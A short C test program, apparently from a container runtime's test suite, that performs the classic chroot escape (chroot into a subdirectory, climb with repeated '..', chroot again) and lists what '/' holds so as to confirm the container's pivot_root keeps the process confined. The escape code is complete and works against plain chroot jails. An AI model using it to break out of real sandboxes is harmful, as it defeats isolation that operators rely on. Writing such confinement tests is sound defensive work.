/* The classic chroot escape: chroot into a subdirectory without entering it,
   climb out with "..", chroot there. Inside a herd container the climb ends at
   the container's root (pivot_root detached the host's), so "/" afterwards
   must still be the container's. Prints what "/" holds after the attempt. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/tmp/escape-jail", 0755);
    if (chroot("/tmp/escape-jail") != 0) perror("chroot jail");
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) perror("chroot .");
    DIR* d = opendir("/");
    struct dirent* e;
    while (d && (e = readdir(d))) printf("%s\n", e->d_name);
    return 0;
}
